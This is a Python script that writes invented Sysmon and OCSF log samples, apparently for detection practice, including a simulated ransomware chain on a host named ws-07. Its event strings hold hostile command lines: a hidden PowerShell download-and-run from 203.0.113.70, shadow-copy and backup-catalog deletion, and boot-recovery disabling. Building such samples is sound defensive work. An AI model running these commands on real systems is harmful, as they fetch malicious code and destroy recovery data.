#!/usr/bin/env python3
"""written.py FOLDER: writes the samples that no practice host here can give: Windows events in the form that EVTX
readers translate the XML to (Sysmon's public schema, version 15.15), and a product's findings in OCSF 1.3.

Everything in them is invented; identifiers are derived from names, so that the files come out the same each time.
"""

import hashlib
import json
import pathlib
import sys
import uuid
from datetime import datetime, timedelta, timezone

DOMAIN = "corp.example"
START = datetime(2026, 11, 24, 10, 44, 2, 118_000, tzinfo=timezone.utc)
SYSTEM32 = "C:\\Windows\\System32\\"
HOME = "C:\\Users\\user07\\"
NOTE = "RESTORE-YOUR-FILES.txt"
FILES = {
    "Documents": "budget-2027.xlsx minutes-october.docx offer-0815.pdf suppliers.csv",
    "Documents\\Projects": "hall-4.docx hall-4.xlsx schedule.pdf photos.zip",
    "Desktop": "todo.txt site-plan.pdf rota.xlsx contacts.csv",
    "Pictures": "fair-01.jpg fair-02.jpg fair-03.jpg stand.png",
    "Downloads": "price-list.pdf form-7.docx map.png export.csv",
    "Notes": "ideas.txt calls.txt meeting-11-20.docx",
}


def guid(*parts: object) -> str:
    """A GUID in braces that follows from `parts`."""
    return "{" + str(uuid.uuid5(uuid.NAMESPACE_OID, "/".join(map(str, parts)))).upper() + "}"


def digest(name: str) -> str:
    """The SHA-256 that stands for a file of this name."""
    return hashlib.sha256(f"stanch sample {name}".encode()).hexdigest().upper()


class Sysmon:
    """One host's Sysmon log, written in the order of time."""

    def __init__(self, host: str, user: str, record: int) -> None:
        self.host, self.user, self.record = host, user, record
        self.events: list[tuple[datetime, dict]] = []

    def add(self, second: float, event_id: int, data: dict) -> None:
        when = START + timedelta(seconds=second)
        utc = when.strftime("%Y-%m-%d %H:%M:%S.") + f"{when.microsecond // 1000:03d}"
        self.record += 1
        system = {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}},
            "EventID": event_id,
            "Version": 5 if event_id == 1 else 2,
            "Level": 4,
            "Task": event_id,
            "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": self.record,
            "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 2804, "ThreadID": 3916}},
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": f"{self.host}.{DOMAIN}",
            "Security": {"#attributes": {"UserID": "S-1-5-18"}},
        }
        event_data = {"RuleName": "-", "UtcTime": utc} | data
        self.events.append((when, {"Event": {"System": system, "EventData": event_data}}))

    def process(self, second: float, pid: int, image: str, command: str, parent: tuple[int, str, str]) -> tuple[int, str, str]:
        """A process starts; returns what its children name as their parent."""
        parent_pid, parent_image, parent_command = parent
        name = image.rsplit("\\", 1)[-1]
        self.add(second, 1, {
            "ProcessGuid": guid(self.host, pid),
            "ProcessId": pid,
            "Image": image,
            "FileVersion": "-",
            "Description": "-",
            "Product": "-",
            "Company": "-",
            "OriginalFileName": name.upper() if image.startswith(SYSTEM32) else "-",
            "CommandLine": command,
            "CurrentDirectory": HOME if self.user.endswith("07") else "C:\\",
            "User": f"CORP\\{self.user}",
            "LogonGuid": guid(self.host, "logon"),
            "LogonId": "0x3e7a1",
            "TerminalSessionId": 1,
            "IntegrityLevel": "High" if pid in (6320, 6404, 6412, 6420, 6428) else "Medium",
            "Hashes": f"SHA256={digest(name)}",
            "ParentProcessGuid": guid(self.host, parent_pid),
            "ParentProcessId": parent_pid,
            "ParentImage": parent_image,
            "ParentCommandLine": parent_command,
            "ParentUser": f"CORP\\{self.user}",
        })
        return pid, image, command

    def connection(self, second: float, process: tuple[int, str, str], source: str, port: int, target: str, target_port: int) -> None:
        pid, image, _ = process
        self.add(second, 3, {
            "ProcessGuid": guid(self.host, pid),
            "ProcessId": pid,
            "Image": image,
            "User": f"CORP\\{self.user}",
            "Protocol": "tcp",
            "Initiated": "true",
            "SourceIsIpv6": "false",
            "SourceIp": source,
            "SourceHostname": f"{self.host}.{DOMAIN}",
            "SourcePort": port,
            "SourcePortName": "-",
            "DestinationIsIpv6": "false",
            "DestinationIp": target,
            "DestinationHostname": "-",
            "DestinationPort": target_port,
            "DestinationPortName": "-",
        })

    def file(self, second: float, process: tuple[int, str, str], path: str) -> None:
        pid, image, _ = process
        when = START + timedelta(seconds=second)
        self.add(second, 11, {
            "ProcessGuid": guid(self.host, pid),
            "ProcessId": pid,
            "Image": image,
            "TargetFilename": path,
            "CreationUtcTime": when.strftime("%Y-%m-%d %H:%M:%S.000"),
            "User": f"CORP\\{self.user}",
        })


def ransomware() -> list[tuple[datetime, dict]]:
    """ws-07: a document starts a shell, the shell a program; the program removes what could bring files back, and encrypts."""
    log = Sysmon("ws-07", "user07", 48_120)
    word = log.process(0, 5104, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                       f'"WINWORD.EXE" /n "{HOME}Downloads\\Delivery note 4471.docm"', (3312, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"))
    shell = log.process(6.2, 5988, SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell.exe -NoProfile -WindowStyle Hidden -Command \"Invoke-WebRequest http://203.0.113.70/u/svchelper.exe"
                        " -OutFile $env:TEMP\\svchelper.exe; Start-Process $env:TEMP\\svchelper.exe\"", word)
    log.connection(7.4, shell, "10.20.0.17", 50_412, "203.0.113.70", 80)
    log.file(8.1, shell, HOME + "AppData\\Local\\Temp\\svchelper.exe")
    locker = log.process(9.0, 6320, HOME + "AppData\\Local\\Temp\\svchelper.exe", HOME + "AppData\\Local\\Temp\\svchelper.exe", shell)
    log.process(10.6, 6404, SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", locker)
    log.process(11.1, 6412, SYSTEM32 + "wbem\\WMIC.exe", "wmic.exe shadowcopy delete", locker)
    log.process(11.7, 6420, SYSTEM32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No", locker)
    log.process(12.0, 6428, SYSTEM32 + "wbadmin.exe", "wbadmin.exe delete catalog -quiet", locker)
    second = 13.0
    for folder, names in FILES.items():
        for name in names.split():
            second += 0.4
            log.file(second, locker, f"{HOME}{folder}\\{name}.stnlock")
        log.file(second + 0.2, locker, f"{HOME}{folder}\\{NOTE}")
    log.process(second + 2, 6610, SYSTEM32 + "notepad.exe", f'notepad.exe "{HOME}Desktop\\{NOTE}"', locker)
    return log.events


def ordinary() -> list[tuple[datetime, dict]]:
    """ws-02: a working day that nobody needs to look at."""
    log = Sysmon("ws-02", "user02", 31_004)
    explorer = (2980, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
    log.process(1.5, 4410, SYSTEM32 + "notepad.exe", 'notepad.exe "C:\\Users\\user02\\Documents\\notes.txt"', explorer)
    shell = log.process(12.3, 4522, SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -File C:\\Tools\\inventory.ps1", explorer)
    log.process(13.0, 4530, SYSTEM32 + "vssadmin.exe", "vssadmin.exe list shadows", shell)
    log.file(14.2, shell, "C:\\Tools\\inventory.csv")
    log.connection(15.0, shell, "10.20.0.12", 49_877, "10.20.0.31", 445)
    return log.events


def finding(second: float, host: str, address: str, rule: str, title: str, severity: int, technique: tuple[str, str], file: str) -> dict:
    """An OCSF Detection Finding (class 2004, activity Create)."""
    when = int((START + timedelta(seconds=second)).timestamp() * 1000)
    return {
        "class_uid": 2004, "class_name": "Detection Finding", "category_uid": 2, "category_name": "Findings",
        "activity_id": 1, "activity_name": "Create", "type_uid": 200401, "severity_id": severity, "status_id": 1,
        "time": when,
        "message": f"{title} on {host}",
        "metadata": {"version": "1.3.0", "uid": guid(host, rule).strip("{}").lower(),
                     "product": {"name": "Practice EDR", "vendor_name": "Stanch samples", "version": "1.0"}},
        "finding_info": {
            "uid": guid("finding", host, rule).strip("{}").lower(), "title": title,
            "analytic": {"type_id": 1, "uid": rule, "name": title},
            "attacks": [{"version": "17.0", "technique": {"uid": technique[0], "name": technique[1]}}],
            "created_time": when,
        },
        "device": {"hostname": f"{host}.{DOMAIN}", "ip": address, "type_id": 2, "os": {"name": "Windows", "type_id": 100}},
        "actor": {"user": {"name": "user09"}},
        "evidences": [{"process": {"name": file, "pid": 7312, "cmd_line": f"C:\\ProgramData\\{file} -accepteula",
                                   "file": {"name": file, "path": f"C:\\ProgramData\\{file}", "type_id": 1,
                                            "hashes": [{"algorithm_id": 3, "algorithm": "SHA-256", "value": digest(file).lower()}]}}}],
    }


def write(path: pathlib.Path, records: list[dict]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    text = "".join(json.dumps(record, separators=(",", ":")) + "\n" for record in records)
    path.write_text(text, encoding="utf-8")


def main() -> None:
    folder = pathlib.Path(sys.argv[1])
    events = sorted(ransomware() + ordinary(), key=lambda pair: pair[0])
    write(folder / "windows" / "ransomware.ndjson", [event for _, event in events])
    write(folder / "ocsf" / "edr-findings.ndjson", [
        finding(95, "ws-09", "10.20.0.19", "PE-1003", "Memory of the logon process was read", 4,
                ("T1003", "OS Credential Dumping"), "memsave.exe"),
        finding(140, "ws-11", "10.20.0.21", "PE-2041", "Unwanted program was installed", 2,
                ("T1204", "User Execution"), "toolbar-setup.exe"),
    ])


main()
